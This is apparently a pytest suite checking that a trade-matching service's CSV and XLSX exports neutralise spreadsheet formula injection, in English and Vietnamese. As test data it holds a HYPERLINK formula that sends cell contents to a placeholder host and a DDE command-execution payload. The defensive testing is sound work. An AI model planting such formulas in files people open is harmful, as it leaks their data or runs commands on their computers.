"""Every file ketnoi hands out, opened as staff would open it (issue 11 item 5, issue 14).

A world whose firm names are formulas (``=HYPERLINK(...)``, ``+84 912 345 678``, ``@SUM(A1)``,
``-2+3``, tab and carriage-return prefixes) goes through every export in the registry
(:data:`ketnoi.api._exports.EXPORTS`), in both languages and both formats: no XLSX cell is a
formula, no CSV cell starts like one, numbers stay numbers, and a Vietnamese CSV opens in
Vietnamese Excel (``;``, decimal comma, Vietnamese headers). Static checks keep every route,
command and file write in the registry and going through the one writer.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from ketnoi import graph, matcher
from ketnoi.api._exports import EXPORTS, ExportWorld
from ketnoi.api._headers import SHARE_COLUMNS, has_header, header, is_key_column
from ketnoi.api._tables import FORMULA_TRIGGERS, tables_to_bytes

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "fixtures" / "tiny"

#: Firm names a firm key could set (PATCH its own name), each a formula to a spreadsheet. (A
#: carriage return cannot be read from a contract CSV: the writer's own test covers it.)
PAYLOADS = {
    "B1": '=HYPERLINK("http://x/?"&A1,"Click")',
    "B2": "+84 912 345 678",
    "T1": "@SUM(A1)",
    "S1": "-2+3",
    "S2": "\t=1+1",
    "S5": "=1+1",
}
LANGS = ("en", "vi")
FORMATS = ("csv", "xlsx")


def _poisoned(folder: Path) -> Path:
    """The tiny world with formula names, descriptions and a category name."""
    target = folder / "world"
    shutil.copytree(TINY, target)
    firms = pd.read_csv(target / "firms.csv", dtype=str, keep_default_na=False)
    firms["name"] = [
        PAYLOADS.get(f, n) for f, n in zip(firms["firm_id"], firms["name"], strict=True)
    ]
    firms["description"] = "=1+1"
    firms.to_csv(target / "firms.csv", index=False)
    cats = pd.read_csv(target / "categories.csv", dtype=str, keep_default_na=False)
    cats.loc[cats["category_id"] == "stamp", ["name", "name_vi"]] = ["=cmd|'/C calc'!A0", "-1+1"]
    cats.to_csv(target / "categories.csv", index=False)
    return target


@pytest.fixture(scope="module")
def world_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _poisoned(tmp_path_factory.mktemp("exports"))


@pytest.fixture(scope="module")
def world(world_dir: Path) -> ExportWorld:
    dataset = graph.load_dataset(world_dir)
    return ExportWorld(dataset, matcher.Matcher().fit(dataset))


@pytest.fixture(scope="module")
def files(world: ExportWorld) -> dict[tuple[str, str, str], tuple[dict[str, pd.DataFrame], bytes]]:
    """(export, lang, format) -> (the sheets, the bytes written), for every registered export."""
    out = {}
    for name, export in EXPORTS.items():
        for lang in LANGS:
            sheets = export.tables(world, lang)
            for fmt in FORMATS:
                chosen = sheets if fmt == "xlsx" else dict(list(sheets.items())[:1])
                out[name, lang, fmt] = (chosen, tables_to_bytes(chosen, fmt, lang=lang))
    return out


def _starts_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def xlsx_problems(data: bytes, sheets: dict[str, pd.DataFrame], lang: str) -> list[str]:
    """What is wrong with a workbook: formulas, text that is not marked as text, numbers
    written as text, headers not in ``lang``."""
    problems = []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for (name, frame), sheet in zip(sheets.items(), book.worksheets, strict=True):
        rows = list(sheet.iter_rows())
        heads = [("" if c.value is None else c.value) for c in rows[0]] if rows else []
        wanted = [header(str(c), lang) for c in frame.columns]
        if heads != wanted:
            problems.append(f"{name}: headers {heads} != {wanted}")
        numeric = {j for j, c in enumerate(frame.columns) if frame[c].dtype.kind in "iuf"}
        for row in rows[1:]:
            for j, cell in enumerate(row):
                where = f"{name}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{where}: a formula {cell.value!r}")
                text = isinstance(cell.value, str) and _starts_like_a_formula(cell.value)
                if text and not cell.quotePrefix:
                    problems.append(f"{where}: {cell.value!r} is not marked as text")
                if j in numeric and cell.value is not None and isinstance(cell.value, str):
                    problems.append(f"{where}: the number {cell.value!r} is text")
    return problems


def csv_rows(data: bytes, lang: str) -> list[list[str]]:
    """The cells as Excel in ``lang``'s locale splits them: ``;`` for vi, ``,`` for en."""
    assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble Vietnamese"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "vi" else ","))


def csv_problems(data: bytes, frame: pd.DataFrame, lang: str) -> list[str]:
    problems = []
    rows = csv_rows(data, lang)
    wanted = [header(str(c), lang) for c in frame.columns]
    if rows[0] != wanted:
        problems.append(f"headers {rows[0]} != {wanted}")
    for i, row in enumerate(rows[1:], start=2):
        if len(row) != len(wanted):
            problems.append(f"line {i}: {len(row)} cells, not {len(wanted)}")
            continue
        for column, cell in zip(frame.columns, row, strict=True):
            if _starts_like_a_formula(cell):
                problems.append(f"line {i}, {column}: {cell!r} starts like a formula")
            kind = frame[column].dtype.kind
            if column in SHARE_COLUMNS and cell and not cell.endswith("%"):
                problems.append(f"line {i}, {column}: share {cell!r} is not a percentage")
            elif kind in "iuf" and re.fullmatch(r"-?\d+[.,]0", cell):
                problems.append(f"line {i}, {column}: whole number {cell!r} written with .0")
            elif kind == "f" and lang == "vi" and re.fullmatch(r"-?\d+\.\d+", cell):
                problems.append(f"line {i}, {column}: {cell!r} has a decimal point in vi")
    return problems


# -- the registry, file by file -------------------------------------------------------------
CASES = [(name, lang, fmt) for name in EXPORTS for lang in LANGS for fmt in FORMATS]


@pytest.mark.parametrize(("name", "lang", "fmt"), CASES)
def test_every_export_is_safe_and_readable(
    files: dict[tuple[str, str, str], Any], name: str, lang: str, fmt: str
) -> None:
    sheets, data = files[name, lang, fmt]
    assert any(len(frame) for frame in sheets.values()), f"{name}: nothing to check"
    if fmt == "xlsx":
        assert xlsx_problems(data, sheets, lang) == []
    else:
        (frame,) = sheets.values()
        assert csv_problems(data, frame, lang) == []


def test_the_world_carries_every_payload_into_the_files(
    files: dict[tuple[str, str, str], Any],
) -> None:
    # Else the test above could pass on a world whose names never reach a file.
    seen: set[str] = set()
    for (_, _, fmt), (_, data) in files.items():
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(data))
            seen |= {c.value for s in book for r in s.iter_rows() for c in r if c.value}
    # (The loader may strip a leading tab or carriage return: compare without them.)
    assert {v.strip() for v in PAYLOADS.values()} <= {str(v).strip() for v in seen}


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_column_has_a_vietnamese_header(world: ExportWorld, name: str) -> None:
    for frame in EXPORTS[name].tables(world, "vi").values():
        missing = [c for c in frame.columns if not has_header(str(c), "vi")]
        assert missing == [], f"{name}: no Vietnamese header for {missing}"


def test_phone_numbers_and_formulas_stay_text_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "firm_name": ["+84 912 345 678", "=1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Sông"],
            "volume": [1069.0, 2.0, None, 4.0, 5.0, 6.0, 7.5],
            "linked_rate": [0.125, 0.5, None, 1.0, 0.0, 0.25, 0.3],
            "demands": [1, 2, 3, 4, 5, 6, 7],
            "score": [0.216, -0.5, 0.0, 1.0, 0.1, 0.2, 0.3],
        }
    )
    book = openpyxl.load_workbook(io.BytesIO(tables_to_bytes({"t": frame}, "xlsx", lang="vi")))
    cells = list(book["t"].iter_rows(min_row=2, values_only=False))
    # Intact, as typed (XML turns a carriage return into a line feed: still text).
    assert [r[0].value for r in cells] == [v.replace("\r", "\n") for v in frame["firm_name"]]
    assert all(r[0].data_type == "s" for r in cells)
    assert cells[0][1].value == 1069 and cells[0][1].number_format == "#,##0"
    assert cells[0][2].value == 0.125 and cells[0][2].number_format == "0.0%"
    assert cells[1][4].value == -0.5  # a negative number is a number, not a neutralised text
    rows = csv_rows(tables_to_bytes({"t": frame}, "csv", lang="vi"), "vi")
    assert rows[0] == ["doanh nghiệp", "khối lượng", "tỷ lệ đã liên kết", "số nhu cầu", "điểm"]
    assert rows[1] == ["'+84 912 345 678", "1069", "12,5%", "1", "0,216"]
    assert rows[2][0] == "'=1+1" and rows[2][4] == "-0,5"
    assert [r[0] for r in rows[3:7]] == ["'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert rows[7] == ["Sông", "7,5", "30,0%", "7", "0,3"]
    english = csv_rows(tables_to_bytes({"t": frame}, "csv", lang="en"), "en")
    assert english[1] == ["'+84 912 345 678", "1069", "12.5%", "1", "0.216"]
    assert tables_to_bytes({"t": frame}, "csv", lang="vi", sep=",").decode("utf-8-sig")[:13] == (
        "doanh nghiệp,"
    )


# -- every door goes through the registry and the writer ------------------------------------
#: Modules that write CSV without the writer, and why: the data contract is read back by
#: ketnoi (names must round-trip unchanged), and the fingerprint hashes it.
NOT_FOR_PEOPLE = {"graph/_dataset.py"}
WRITES = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer|Workbook\(|DictWriter")


def test_only_the_writer_writes_spreadsheets() -> None:
    offenders = []
    for package in ("api", "programme", "matcher", "graph"):
        for path in sorted((ROOT / package).rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            if relative in {"api/_tables.py", *NOT_FOR_PEOPLE}:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITES.search(line):
                    offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX through ketnoi.api._tables.tables_to_bytes"


def test_every_command_that_writes_a_table_is_registered() -> None:
    import typer.main

    from ketnoi.api.cli import app

    group = typer.main.get_command(app)
    registered = {c.split()[0] for e in EXPORTS.values() for c in e.commands}
    not_tables = {"export-graph", "train"}  # a GraphML/JSON graph, a model file
    writers, unknown = set(), []
    for name, command in group.commands.items():  # type: ignore[attr-defined]
        options = {o for p in command.params for o in getattr(p, "opts", ())}
        if "--out" in options and name not in not_tables:
            writers.add(name)
            if not {"--lang", "--sep"} <= options:
                unknown.append(f"{name}: --out without --lang/--sep")
    assert writers == registered and unknown == []


@pytest.fixture(scope="module")
def service_on_world(
    start_service: Callable[..., AbstractContextManager[dict[str, Any]]],
    tmp_path_factory: pytest.TempPathFactory,
    world_dir: Path,
) -> Iterator[dict[str, Any]]:
    with start_service(tmp_path_factory.mktemp("svc"), dataset=world_dir) as running:
        yield running


def test_every_file_route_is_registered(service_on_world: dict[str, Any]) -> None:
    document = service_on_world["app"].openapi()
    files = set()
    for path, operations in document["paths"].items():
        for operation in operations.values():
            content = operation.get("responses", {}).get("200", {}).get("content", {})
            if "text/csv" in content:
                files.add(path)
                names = {p["name"] for p in operation.get("parameters", [])}
                assert {"format", "lang", "sep"} <= names, path
    assert files == {r for e in EXPORTS.values() for r in e.routes}


def _staff(service: dict[str, Any]) -> dict[str, str]:
    return {"Authorization": f"Bearer {service['keys']['staff']}"}


@pytest.mark.parametrize("lang", LANGS)
def test_the_service_hands_out_safe_files(service_on_world: dict[str, Any], lang: str) -> None:
    # Through the doors: a match list and the near-miss report, as staff download them.
    client, headers = service_on_world["client"], _staff(service_on_world)
    made = client.post(
        "/v1/match-lists", headers=headers, json={"buyer_ids": ["B1", "B2"], "k": 3, "lang": lang}
    )
    assert made.status_code == 201, made.text
    routes = [f"/v1/match-lists/{made.json()['id']}", "/v1/programme/near-misses/pairs"]
    for route in routes:
        xlsx = client.get(route, headers=headers, params={"format": "xlsx", "lang": lang})
        book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
        cells = [c for s in book for r in s.iter_rows() for c in r]
        assert all(c.data_type != "f" for c in cells), route
        text = client.get(route, headers=headers, params={"format": "csv", "lang": lang}).content
        rows = csv_rows(text, lang)
        assert len({len(r) for r in rows}) == 1, f"{route}: ragged rows"
        assert not any(_starts_like_a_formula(c) for r in rows for c in r), route
        assert any(c.startswith("'") for r in rows for c in r), f"{route}: no payload reached it"


def test_the_cli_writes_safe_workbooks(world_dir: Path, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from ketnoi.api.cli import app

    out = tmp_path / "list.xlsx"
    done = CliRunner().invoke(app, ["match-list", str(world_dir), "--out", str(out), "--k", "3"])
    assert done.exit_code == 0, done.stderr
    assert f"wrote {out}" in done.stderr.replace("\n", "")
    book = openpyxl.load_workbook(out)
    sheet = book["match list"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:3] == ["list of", "buyer_id", "buyer"]
    cells = [c for r in sheet.iter_rows(min_row=2) for c in r]
    assert all(c.data_type != "f" for c in cells)
    assert {c.value for c in cells} >= {PAYLOADS["B1"], PAYLOADS["B2"]}  # names, not only ids
    vi = tmp_path / "list.csv"
    done = CliRunner().invoke(
        app, ["match-list", str(world_dir), "--out", str(vi), "--k", "3", "--lang", "vi"]
    )
    assert done.exit_code == 0, done.stderr
    rows = csv_rows(vi.read_bytes(), "vi")
    assert rows[0][:3] == ["danh sách của", "buyer_id", "bên mua"]
    assert "'" + PAYLOADS["B1"] in {r[2] for r in rows}
    bad = CliRunner().invoke(app, ["match-list", str(world_dir), "--out", str(vi), "--sep", "|"])
    assert bad.exit_code == 2 and "--sep" in bad.stderr


def test_key_columns_keep_their_names() -> None:
    # `ketnoi conversion --match-list/--meetings` reads these back from a Vietnamese file too.
    assert all(header(c, "vi") == c for c in ("buyer_id", "supplier_id", "event_id"))
    assert is_key_column("firm_id") and not is_key_column("firm_name")
